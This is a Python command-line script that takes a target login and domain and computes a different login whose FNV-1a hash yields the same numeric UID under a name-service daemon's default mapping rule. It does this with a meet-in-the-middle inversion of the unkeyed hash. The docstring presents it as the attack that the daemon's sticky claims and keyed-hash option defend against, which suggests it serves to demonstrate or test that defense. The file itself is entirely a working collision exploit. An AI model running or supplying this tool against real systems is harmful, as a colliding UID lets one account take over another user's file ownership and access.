#!/usr/bin/env python3
"""fnv-collide.py LOGIN DOMAIN [UID_BASE UID_MAX] - print a login
NAME@DOMAIN whose FNV-1a 32 hash gives the same UID as LOGIN under the
default rule, uid_base + fnv1a32(login) % (uid_max - uid_base + 1).

FNV-1a has no key and each step is invertible, so a meet in the middle
finds a 7-character name in seconds: 4 characters forward from the
offset basis, 3 backward from the wanted hash (through "@DOMAIN").  This
is the attack tsnssd's sticky claims and uid_key_file defend against.
"""
import sys

P, BASIS, M = 16777619, 2166136261, 1 << 32
PINV = pow(P, -1, M)
FIRST = b"abcdefghijklmnopqrstuvwxyz"
REST = b"abcdefghijklmnopqrstuvwxyz0123456789"


def fnv(data, h=BASIS):
    for c in data:
        h = ((h ^ c) * P) % M
    return h


def back(h, data):
    """The state before data, given the state h after it."""
    for c in reversed(data):
        h = ((h * PINV) % M) ^ c
    return h


def main():
    login, domain = sys.argv[1].lower(), sys.argv[2].lower()
    base = int(sys.argv[3]) if len(sys.argv) > 3 else 100000
    top = int(sys.argv[4]) if len(sys.argv) > 4 else 2147483646
    span = top - base + 1
    want = fnv(login.encode()) % span
    targets = [t for t in range(want, M, span)]
    fwd = {}
    for a in FIRST:
        ha = fnv(bytes([a]))
        for b in REST:
            hb = ((ha ^ b) * P) % M
            for c in REST:
                hc = ((hb ^ c) * P) % M
                for d in REST:
                    fwd[((hc ^ d) * P) % M] = bytes([a, b, c, d])
    suffix = ("@" + domain).encode()
    for t in targets:
        mid = back(t, suffix)
        for x in REST:
            for y in REST:
                for z in REST:
                    h = back(mid, bytes([x, y, z]))
                    if h in fwd:
                        name = (fwd[h] + bytes([x, y, z])).decode()
                        cand = name + "@" + domain
                        assert fnv(cand.encode()) % span == want
                        if cand != login:
                            print(cand)
                            return 0
    return 1


if __name__ == "__main__":
    sys.exit(main())
